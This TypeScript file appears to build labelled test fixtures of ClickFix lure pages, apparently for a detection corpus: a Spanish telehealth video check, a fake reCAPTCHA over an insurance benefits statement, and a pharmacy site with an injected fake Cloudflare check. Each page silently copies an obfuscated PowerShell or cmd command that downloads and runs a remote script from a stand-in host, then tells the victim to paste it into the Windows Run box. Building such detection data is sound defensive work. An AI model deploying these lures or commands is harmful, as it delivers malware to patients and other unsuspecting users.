import { htmlRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, dotIcon, logos, shell } from '../parts/yt-kit.js';

/** ClickFix pages: telehealth video/device checks, fake CAPTCHAs in front of EOBs and pharmacy sites, "fix it" prompts; Windows Run box, Win+X terminal, and macOS Terminal variants. */


// ---- 2. Spanish telehealth "verificación de video", PowerShell -enc, execCommand copy from a hidden textarea
const ps2 = "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','tv');iex $w.DownloadString('https://verifica-telesalud.com/s/v.ps1')";
const enc2 = Buffer.from(ps2, 'utf16le').toString('base64');
const tele2 = shell({
  title: 'Consulta virtual — Verificación de video',
  lang: 'es',
  css: `body{margin:0;font-family:Arial,sans-serif;background:#eef5f9}.c{max-width:520px;margin:50px auto;background:#fff;border-radius:10px;padding:26px;box-shadow:0 3px 16px #0002}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #ccc;border-radius:4px;padding:14px;cursor:pointer;background:#f9f9f9}.bx{width:24px;height:24px;border:2px solid #999;border-radius:3px}
.m{display:none;margin-top:18px;background:#fff8e1;border:1px solid #ffca28;border-radius:6px;padding:14px;font-size:15px}kbd{background:#eee;border:1px solid #aaa;border-radius:3px;padding:1px 6px}`,
  body: `<div class="c"><h2>Su médico le espera</h2><p>Antes de entrar a la consulta virtual de <b>Salud en Casa</b>, confirme que su cámara y micrófono funcionan y que usted no es un robot.</p>
<div class="cb" id="cb"><div class="bx"></div><span>Verificar mi cámara y micrófono</span></div>
<div class="m" id="m"><b>Falta un paso de verificación:</b><ol><li>Presione <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Pegue con <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Presione <kbd>Enter</kbd> para completar la verificación</li></ol></div>
<textarea id="t" style="position:absolute;left:-9999px" readonly>powershell -NoP -W Hidden -EncodedCommand ${enc2}</textarea></div>
<script>
document.getElementById('cb').onclick=function(){var t=document.getElementById('t');t.select();document.execCommand('copy');this.querySelector('.bx').textContent='⟳';document.getElementById('m').style.display='block';};
</script>`,
});

// ---- 3. Fake reCAPTCHA before an EOB, command split and reassembled
const eobCaptcha = shell({
  title: 'Explanation of Benefits — Verify you are human',
  css: `body{margin:0;font-family:Roboto,Arial;background:#f9f9f9}.d{filter:blur(6px);max-width:700px;margin:20px auto;background:#fff;padding:30px;height:500px}.o{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(255,255,255,.4)}
.r{width:300px;background:#f9f9f9;border:1px solid #d3d3d3;border-radius:3px;padding:12px;display:flex;align-items:center;justify-content:space-between;box-shadow:0 0 4px #0001}.ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}
.v{display:none;width:360px;background:#fff;border:1px solid #ccc;box-shadow:0 2px 10px #0003;margin-top:10px}.v .h{background:#4a90e2;color:#fff;padding:18px;font-size:18px}.v .s{padding:16px;font-size:14px}`,
  body: `<div class="d"><h2>EXPLANATION OF BENEFITS</h2><p>Member: ******** · Claim 2025-10-44120</p></div>
<div class="o"><div><div class="r"><div style="display:flex;align-items:center;gap:12px"><div class="ck" id="ck"></div><span>I'm not a robot</span></div><div style="text-align:center;font-size:10px;color:#555">🔄<br>reCAPTCHA<br><small>Privacy - Terms</small></div></div>
<div class="v" id="v"><div class="h">Verification steps</div><div class="s">1. Press Windows Button "⊞" + R<br>2. Press CTRL + V<br>3. Press Enter key<br><br><small>Perform the steps above to finish verification.</small><br><br><button onclick="this.textContent='Verifying...'">Verify</button></div></div></div></div>
<script>
var p = ${chunks('powershell -w h -c "iex(irm https://eob-docview.net/c/verify.txt)"', 9)};
var tail = ' # ' + String.fromCharCode(${codes("I am not a robot - reCAPTCHA Verification ID: 2716")});
document.getElementById('ck').onclick = function(){ navigator.clipboard.writeText(p.join('') + tail); this.style.borderColor='#4a90e2'; document.getElementById('v').style.display='block'; };
</script>`,
});

// ---- 4. Compromised independent pharmacy with an injected fake Cloudflare check
const pharmacySite = shell({
  title: 'Main Street Pharmacy | Refills & Vaccines',
  css: `body{margin:0;font-family:Arial;color:#333}header{background:#a61e22;color:#fff;padding:16px 28px}section{padding:28px}`,
  body: `<header><b>Main Street Pharmacy</b> · Family owned since 1978</header>
<section><h1>Refill your prescription online</h1><p>Enter your Rx number to request a refill for pickup or free local delivery. We accept most Medicare Part D plans.</p><p><input placeholder="Rx number"> <button>Request refill</button></p></section>
<script src="https://cdn.statstrack-io.com/wp/jquery.min.js?ver=3.7.1"></script>`,
});
const turnstileJs = `(function(){
var cmd = atob('${b64('cmd /c "curl -s -o %TEMP%\\rx.bat https://cdn.statstrack-io.com/a/rx.bat && %TEMP%\\rx.bat" & rem Cloudflare Ray ID: 8f2a91c0d4 Verify')}');
var h = '<div style="position:fixed;inset:0;background:#fff;z-index:99999;font-family:-apple-system,Segoe UI,Arial;padding:8vh 10vw;color:#313131">'
 + '<h1 style="font-weight:500">mainstreetpharmacy-rx.com</h1><h2 style="font-weight:400">Verify you are human by completing the action below.</h2>'
 + '<div id="cfbox" style="width:300px;border:1px solid #e0e0e0;background:#fafafa;padding:16px;display:flex;gap:12px;align-items:center;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #666;border-radius:3px;display:inline-block"></span>Verify you are human<span style="margin-left:auto;font-size:10px">CLOUDFLARE</span></div>'
 + '<div id="cfsteps" style="display:none;margin-top:20px;max-width:520px;border:1px solid #ddd;padding:16px"><b>Verification Steps</b><ol><li>Press Windows Button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>'
 + '<p style="margin-top:30px;font-size:13px">mainstreetpharmacy-rx.com needs to review the security of your connection before proceeding.</p></div>';
document.addEventListener('DOMContentLoaded', function(){
  var d = document.createElement('div'); d.innerHTML = h; document.body.appendChild(d);
  document.getElementById('cfbox').onclick = function(){ navigator.clipboard.writeText(cmd); document.getElementById('cfsteps').style.display = 'block'; };
});
})();`;

export const entries: Entry[] = [
{
  id: 'yt-consulta-virtual-verificacion-es-enc',
  label: 'clickfix',
  kind: 'clickfix-telehealth-check',
  url: 'https://saludencasa-consultavirtual.com/es/sala/verificacion',
  body: tele2,
},
{
  id: 'yt-eob-fake-recaptcha-irm-split',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://eob-docview.net/member/eob/2025-10-44120',
  body: eobCaptcha,
},
{
  id: 'yt-pharmacy-injected-cf-check-curl-bat',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://mainstreetpharmacy-rx.com/refills/',
  body: pharmacySite,
  routes: { 'cdn.statstrack-io.com/wp/jquery.min.js': jsRoute(turnstileJs) },
},
];
